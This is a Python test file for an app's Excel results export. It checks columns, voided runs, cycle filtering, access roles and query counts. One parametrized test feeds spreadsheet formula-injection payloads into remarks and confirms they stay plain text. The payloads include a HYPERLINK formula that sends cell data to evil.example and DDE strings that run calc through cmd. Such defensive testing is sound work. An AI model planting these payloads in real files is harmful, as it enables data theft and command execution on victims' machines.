"""The workbook of results, read back as another program reads it."""

import re
import zipfile
from datetime import datetime
from io import BytesIO
from typing import Any
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from python_calamine import CalamineWorkbook

from tests.counting import statements
from tests.factories import flow, problems
from tests.world import World
from uatapp.kernel.uow import unit_of_work
from uatapp.reports import results
from uatapp.runs import service as runs
from uatapp.runs.states import StepAnswer

URL = "/projects/PAY/results.xlsx"
FORMULAS = [
    "=1+1", "+1", "-1", "-5", "@SUM(A1)", '=HYPERLINK("http://evil.example?"&A1,"x")', "{=1}", "http://evil.example",
    "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\uff1d1+1", ";=1+1", "a\n=1", '"\n=1"', "a\t=1", "=1\x0b=2",
]  # fmt: skip


def book(world: World, query: str = "", who: str = "manager") -> bytes:
    answer = world.client(who).get(URL + query)
    assert answer.status_code == 200
    return answer.data


def rows(data: bytes, sheet: int = 0) -> list[dict[str, Any]]:
    heading, *found = openpyxl.load_workbook(BytesIO(data)).worksheets[sheet].iter_rows(values_only=True)
    return [dict(zip(heading, row, strict=True)) for row in found]


def test_without_a_run_there_are_headings_only(site: World) -> None:
    data = book(site)
    assert (rows(data), rows(data, 1)) == ([], [])
    first, second = openpyxl.load_workbook(BytesIO(data)).worksheets
    assert (first.title, second.title, first.freeze_panes) == ("Results", "Steps", "A2")


def test_a_row_says_who_ran_what_when_on_which_build_with_what_outcome(world: World) -> None:
    run = problems.failed(world)
    (row,) = rows(results.workbook(world.project))
    expected = {
        "Requirement": "PAY-R1",
        "Requirement name": "Order 1 is saved",
        "Business process": "Order to cash",
        "Unit": "Order entry",
        "Test": "PAY-T1",
        "Version": 1,
        "Present version": 1,
        "Cycle": "Cycle 1",
        "Tester": "Marta Lindqvist",
        "Attempt": 1,
        "Build": "1.0",
        "Outcome": "Failed",
        "Taken back": None,
        "Run": run.reference,
    }
    assert expected.items() <= {**row, "Test": row["Test"].split(".")[0]}.items()
    assert isinstance(row["Submitted"], datetime)
    assert row["Started"] <= row["Submitted"]


def test_steps_have_their_words_answers_and_remarks(world: World) -> None:
    run = problems.failed(world)
    found = rows(results.workbook(world.project), 1)
    assert {row["Run"] for row in found} == {run.reference}
    assert found[-1]["Answer"] == "Not as expected"
    assert found[-1]["Remark"] == "The total is wrong"
    assert found[-1]["What the step says"] == "the total is 1.00"
    assert {row["Answer"] for row in found[:-1]} == {"As expected"}


def test_a_result_taken_back_says_by_whom_and_why(world: World) -> None:
    flow.open_cycle(world, flow.make_cases(world, 1))
    reference = flow.run(world, flow.assignments(world)[0]).reference
    with unit_of_work(world.actor("tester")):
        runs.void(world.project, reference, "Wrong customer", by=world.actor("tester"))
    flow.run(world, flow.assignments(world)[0])
    first, second = rows(results.workbook(world.project))
    assert first["Taken back"] == "Marta Lindqvist: Wrong customer"
    assert (second["Taken back"], second["Attempt"]) == (None, 2)


def test_one_cycle_can_be_taken_alone(site: World) -> None:
    flow.open_cycle(site, flow.make_cases(site, 2))
    for assignment in flow.assignments(site):
        flow.run(site, assignment)
    flow.open_cycle(site, flow.cases(site)[:1], name="Cycle 2")
    flow.run(site, flow.assignments(site)[2])
    assert [row["Cycle"] for row in rows(book(site, "?cycle=2"))] == ["Cycle 2"]
    assert len(rows(book(site, "?cycle=2"), 1)) == 4
    assert len(rows(book(site))) == 3
    assert site.client("manager").get(URL + "?cycle=9").status_code == 404


@pytest.mark.proves("T28")
@pytest.mark.parametrize("text", FORMULAS)
def test_what_looks_like_a_formula_stays_text(site: World, text: str) -> None:
    flow.open_cycle(site, flow.make_cases(site, 1))
    flow.run(site, flow.assignments(site)[0], remark=text)
    data = book(site)
    cells = [c for s in openpyxl.load_workbook(BytesIO(data)).worksheets for row in s.iter_rows() for c in row]
    same = [cell for cell in cells if cell.value == text.replace("\x0b", " ")]
    assert same
    assert {cell.data_type for cell in same} == {"s"}
    assert not any(cell.hyperlink for cell in cells)
    with zipfile.ZipFile(BytesIO(data)) as parts:
        sheets = [parts.read(n).decode() for n in parts.namelist() if n.startswith("xl/worksheets/sheet")]
    assert not any(re.search(r"<f[ >]", sheet) for sheet in sheets)


@pytest.mark.parametrize("text", ["Größe <b>€</b> & 漢字 🙂", "a\x0bb\x1fc", "one\ntwo", "x" * 19_000, "_x000D_"])
def test_any_text_leaves_the_file_readable(site: World, text: str) -> None:
    flow.open_cycle(site, flow.make_cases(site, 1))
    flow.run(site, flow.assignments(site)[0], StepAnswer.NOT_AS_EXPECTED, remark=text)
    sheet = CalamineWorkbook.from_filelike(BytesIO(book(site))).get_sheet_by_index(1).to_python()
    expected = text.replace("\x0b", " ").replace("\x1f", " ")
    assert sheet[-1][-1] == expected


def test_another_program_reads_the_same(site: World) -> None:
    flow.open_cycle(site, flow.make_cases(site, 3))
    for assignment in flow.assignments(site):
        flow.run(site, assignment)
    data = book(site)
    other = CalamineWorkbook.from_filelike(BytesIO(data))
    assert other.sheet_names == ["Results", "Steps"]
    assert [row[0] for row in other.get_sheet_by_name("Results").to_python()[1:]] == ["PAY-R1", "PAY-R2", "PAY-R3"]
    assert len(other.get_sheet_by_name("Steps").to_python()) == 1 + 3 * 4


def test_times_are_those_of_the_project(site: World) -> None:
    flow.open_cycle(site, flow.make_cases(site, 1))
    run = flow.run(site, flow.assignments(site)[0])
    (row,) = rows(book(site))
    local = run.submitted_at.astimezone(ZoneInfo(site.project.zone)).replace(tzinfo=None)
    assert abs((row["Submitted"] - local).total_seconds()) <= 1


@pytest.mark.parametrize(
    ("who", "status"),
    [("manager", 200), ("tester", 200), ("sponsor", 200), ("auditor", 200), ("partner_manager", 200)]
    + [("lead", 403), ("engineer", 403), ("stranger", 404)],
)
def test_who_may_take_results(site: World, who: str, status: int) -> None:
    answer = site.client(who).get(URL)
    assert answer.status_code == status
    if status == 200:
        assert "attachment; filename=" in answer.headers["Content-Disposition"]
        assert "PAY results" in answer.headers["Content-Disposition"]


def test_nothing_of_another_project_is_in_it(site: World) -> None:
    flow.open_cycle(site, flow.make_cases(site, 1))
    flow.run(site, flow.assignments(site)[0])
    answer = site.client("stranger").get("/projects/OTH/results.xlsx")
    assert answer.status_code == 200
    assert (rows(answer.data), rows(answer.data, 1)) == ([], [])


def test_statements_do_not_grow_with_runs(site: World) -> None:
    flow.open_cycle(site, flow.make_cases(site, 6))
    flow.run(site, flow.assignments(site)[0])
    with statements() as few:
        results.workbook(site.project)
    for assignment in flow.assignments(site)[1:]:
        flow.run(site, assignment)
    with statements() as many:
        results.workbook(site.project)
    assert len(many) == len(few)
